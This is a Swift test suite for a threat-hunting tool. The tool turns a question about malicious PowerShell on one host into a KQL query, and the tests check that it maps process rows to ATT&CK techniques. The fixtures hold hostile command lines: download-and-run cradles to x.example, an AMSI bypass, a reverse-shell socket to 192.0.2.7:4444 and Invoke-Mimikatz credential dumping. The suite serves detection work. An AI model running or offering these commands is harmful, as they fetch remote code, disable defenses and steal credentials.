import Detection
import Diagnostics
import JSON
import Tables
import Testing

@testable import Hunting
@testable import KQL

/// The question that hunts are judged by: malicious PowerShell on one machine in the past four hours, from its words
/// over the rows to the findings.
@Suite("Malicious PowerShell on a machine")
struct PowerShellTests {
    private static let question = "malicious PowerShell on host WS-FIN-07 in the past four hours"

    /// A row of `DeviceProcessEvents`, an hour before the clock.
    private static func row(
        _ commandLine: String, file: String = "powershell.exe", host: String = "ws-fin-07.corp.example",
        parent: String = "explorer.exe", time: String = "2025-11-12T02:00:00Z"
    ) -> JSONValue {
        [
            "TimeGenerated": .string(time), "Timestamp": .string(time), "DeviceName": .string(host),
            "AccountName": "jdoe", "FileName": .string(file), "ProcessCommandLine": .string(commandLine),
            "InitiatingProcessFileName": .string(parent), "ReportId": 77, "ActionType": "ProcessCreated",
        ]
    }

    private static func hunted(_ rows: [JSONValue], _ question: String = question) throws -> [HuntFinding] {
        let columns = QuestionCheck.catalog.columns(of: "DeviceProcessEvents").compactMap { column in
            ScalarType(written: column.type).map { ColumnSchema(column.name, $0) }
        }
        let table = LocalTable(name: "DeviceProcessEvents", columns: columns, records: rows)
        let catalog = HuntCatalog(local: [table], now: HuntQuestion.now)
        let draft = try HuntGrammar(catalog: catalog).draft(question)
        return RuleHuntAnalyst().findings(HuntRows(try catalog.engine.run(draft.query)), intent: draft.intent)
    }

    @Test("The query asks for the machine, the four hours, PowerShell and what makes it suspicious")
    func query() throws {
        let draft = try HuntGrammar(catalog: QuestionCheck.catalog).draft(Self.question)
        #expect(draft.intent.tables == ["DeviceProcessEvents"] && draft.intent.qualifiers == ["suspicious"])
        #expect(draft.intent.range.from.description == "2025-11-11T23:04:00Z")
        #expect(draft.intent.notes.isEmpty)
        for part in [
            #"DeviceName =~ "WS-FIN-07" or DeviceName startswith "WS-FIN-07.""#,
            #"FileName in~ ("powershell.exe", "pwsh.exe", "powershell_ise.exe")"#, "|downloadstring|",
            "(?i)bypass|", "|amsi|", "matches regex", #""certutil.exe""#,
        ] { #expect(draft.query.contains(part), "\(part)") }
    }

    @Test(
        "What rows show becomes findings with techniques of ATT&CK",
        arguments: [
            ("powershell.exe -nop -w hidden -enc SQBFAFgAIAAxAA==", ["T1059.001", "T1027.010"]),
            ("powershell -e SQBFAFgAIAAxAA==", ["T1059.001", "T1027.010"]),
            ("pwsh -c IEX (New-Object Net.WebClient).DownloadString('http://x.example/a')", ["T1059.001", "T1105"]),
            ("powershell iwr http://x.example/a.ps1 -useb | iex", ["T1059.001", "T1105"]),
            (
                "powershell -WindowStyle Hidden Invoke-WebRequest http://x.example/a.exe -OutFile a.exe",
                ["T1059.001", "T1105", "T1564.003"]
            ),
            (
                "powershell [Ref].Assembly.GetType('x.AmsiUtils').GetField('amsiInitFailed','NonPublic,Static')",
                ["T1562.001", "T1059.001"]
            ),
            ("powershell [Reflection.Assembly]::Load([Convert]::FromBase64String($a))", ["T1059.001", "T1620"]),
            ("powershell -ep bypass -w hidden -file C:\\Users\\Public\\a.ps1", ["T1059.001", "T1564.003"]),
            (
                "powershell $c=New-Object System.Net.Sockets.TCPClient('192.0.2.7',4444);$s=$c.GetStream()",
                ["T1059.001", "T1095"]
            ),
            ("powershell -ep bypass Import-Module .\\a.ps1; Invoke-Mimikatz -DumpCreds", ["T1059.001"]),
        ] as [(String, [String])])
    func shown(line: String, attack: [String]) throws {
        let findings = try Self.hunted([Self.row(line), Self.row("powershell Get-Date")])
        #expect(findings.contains { $0.attack == attack }, "\(findings.map { "\($0.title) \($0.attack)" })")
        #expect(findings.allSatisfy { $0.rows == [0] && $0.title.hasSuffix(": ws-fin-07.corp.example") })
    }

    /// `IEX (New-Object Net.WebClient).DownloadString('http://x.example/a')`, in UTF-16.
    private static let encodedCradle =
        "powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA"
        + "LgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AeAAuAGUAeABhAG0AcABsAGUALwBhACcAKQA="

    @Test("What is hidden in an encoded command counts")
    func encoded() throws {
        let findings = try Self.hunted([Self.row(Self.encodedCradle)])
        #expect(findings.map(\.attack) == [["T1059.001", "T1105"], ["T1059.001", "T1027.010"]])
        #expect(findings.map(\.confidence) == [.high, .medium])
    }

    @Test("Programs that attacks live off, started by PowerShell, are read and judged")
    func children() throws {
        let line = "certutil.exe -urlcache -f http://x.example/a.exe a.exe"
        let findings = try Self.hunted([Self.row(line, file: "certutil.exe", parent: "powershell.exe")])
        #expect(findings.map(\.attack) == [["T1105"]])
        #expect(try Self.hunted([Self.row(line, file: "certutil.exe", parent: "explorer.exe")]).isEmpty)
    }

    @Test(
        "What administrators do shows nothing",
        arguments: [
            "powershell.exe -NoProfile -ExecutionPolicy Bypass -File \"C:\\Program Files\\Agent\\inventory.ps1\"",
            "powershell.exe -NoProfile -Command \"robocopy C:\\data D:\\backup /e /z\"",
            "powershell.exe -NoProfile -Command Invoke-WebRequest https://intranet.example/health -UseBasicParsing",
            "powershell -WindowStyle Hidden -File \\\\dc01\\netlogon\\map-drives.ps1",
            "powershell Start-Process iexplore.exe https://intranet.example",
            "powershell [Reflection.Assembly]::LoadWithPartialName('System.Windows.Forms')",
            "powershell Get-Item C:\\Windows\\System32\\amsi.dll",
            "powershell -Command Start-BitsTransfer https://download.windowsupdate.com/a.cab C:\\temp\\a.cab",
            "powershell -ErrorAction SilentlyContinue -Command Get-Service",
            "powershell Get-MpPreference", "powershell.exe -Command \"[char]65\"",
        ])
    func silent(line: String) throws {
        #expect(try Self.hunted([Self.row(line)]).isEmpty)
    }

    @Test("Other machines and other times are not read")
    func others() throws {
        let line = "powershell -nop -w hidden -enc SQBFAFgAIAAxAA=="
        #expect(try Self.hunted([Self.row(line, host: "ws-fin-071")]).isEmpty)
        #expect(try Self.hunted([Self.row(line, time: "2025-11-11T22:00:00Z")]).isEmpty)
    }

    @Test("The finding keeps its evidence: table, place, time, id, digest and the fields that say most")
    func cited() async throws {
        let rows = HuntRows(
            columns: [
                ("Stamp", "datetime"), ("DeviceName", "string"), ("ProcessCommandLine", "string"), ("ReportId", "long"),
            ],
            rows: [
                ["2025-11-12T01:00:00Z", "pc-01", .string("powershell -enc SQBFAFgAIAAxAA==\u{1B}[2J"), 77],
                ["2025-11-12T02:00:00Z", "pc-01", "powershell -enc SQBFAFgAIAAyAA==", 78],
            ])
        let plan = try await HuntWriter(grammar: HuntGrammar(catalog: QuestionCheck.catalog)).plan(Self.question)
        let judgement = try await HuntAnalyst().judge(rows, of: plan)
        let hunt = Hunt(plan: plan, place: .graph, rows: rows, judgement: judgement)
        let finding = try #require(hunt.detectionFindings(rows).first)
        #expect(finding.oktaEventIDs.isEmpty && finding.createdAt?.description == "2025-11-12T02:00:00Z")
        let cited = (finding.metadata["cited"]?.array ?? []).compactMap { CitedRow(json: $0) }
        #expect(cited.map(\.table) == ["DeviceProcessEvents", "DeviceProcessEvents"] && cited.map(\.row) == [0, 1])
        #expect(cited.map { $0.time?.description } == ["2025-11-12T01:00:00Z", "2025-11-12T02:00:00Z"])
        #expect(cited.map { "\($0.id?.key ?? "") \($0.id?.value.string ?? "")" } == ["ReportId 77", "ReportId 78"])
        #expect(Set(cited.map(\.digest)).count == 2 && cited.allSatisfy { $0.digest.count == 32 })
        #expect(cited[0].fields.map(\.key) == ["DeviceName", "ProcessCommandLine"])
        #expect(!cited[0].json.text.contains("\u{1B}"))
        #expect(hunt.detectionFindings(rows).first == finding)
    }
}
